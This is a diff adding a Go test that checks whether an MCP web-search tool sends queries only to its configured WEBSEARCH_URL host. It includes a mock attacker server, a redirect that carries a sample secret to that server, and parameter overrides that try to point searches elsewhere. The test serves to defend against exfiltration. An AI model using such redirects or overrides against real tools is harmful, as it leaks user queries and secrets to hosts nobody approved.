@@ -170,3 +170,46 @@ func approveAll(asked *int) func(context.Context, *mcp.ElicitRequest) (*mcp.Elic
 		return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"approve": true}}, nil
 	}
 }
+
+// TestASearchOfTheWebHasOneHost: who sets WEBSEARCH_URL agrees that questions go there. A model
+// searches without being asked about, and can make them go nowhere else.
+func TestASearchOfTheWebHasOneHost(t *testing.T) {
+	var stolen atomic.Int32
+	attacker := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
+	defer attacker.Close()
+	service := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
+		if q.FormValue("q") == "elsewhere" {
+			http.Redirect(w, q, attacker.URL+"/?d=hunter2", http.StatusFound)
+			return
+		}
+		w.Write([]byte(`{"results":[{"title":"found ` + q.FormValue("q") + `","url":"https://example.org/"}]}`))
+	}))
+	defer service.Close()
+	h := newHome(t)
+	h.allowLoopback()
+	s, _ := h.connect(nil)
+	search := func(s *mcp.ClientSession, params map[string]any) (code, said string) {
+		return execute(t, s, "rye/web/websearch", params)
+	}
+	if code, said := search(s, map[string]any{"query": "x"}); code != "usage" || !strings.Contains(said, "WEBSEARCH_URL is not set") {
+		t.Errorf("without a service: %s", said)
+	}
+	h.env = append(h.env, "WEBSEARCH_URL="+service.URL)
+	s, _ = h.connect(nil)
+	if code, said := search(s, map[string]any{"query": "rye"}); code != "" || !strings.Contains(said, "found rye") {
+		t.Errorf("a search: %s", said)
+	}
+	for name, params := range map[string]map[string]any{
+		"another service":  {"query": "x", "url": attacker.URL},
+		"a variable":       {"query": "x", "WEBSEARCH_URL": attacker.URL},
+		"a redirect":       {"query": "elsewhere"},
+		"another provider": {"query": "x", "provider": attacker.URL},
+	} {
+		if code, said := search(s, params); name != "another provider" && code == "" {
+			t.Errorf("%s: %s", name, said)
+		}
+	}
+	if n := stolen.Load(); n != 0 {
+		t.Errorf("the attacker got %d requests", n)
+	}
+}
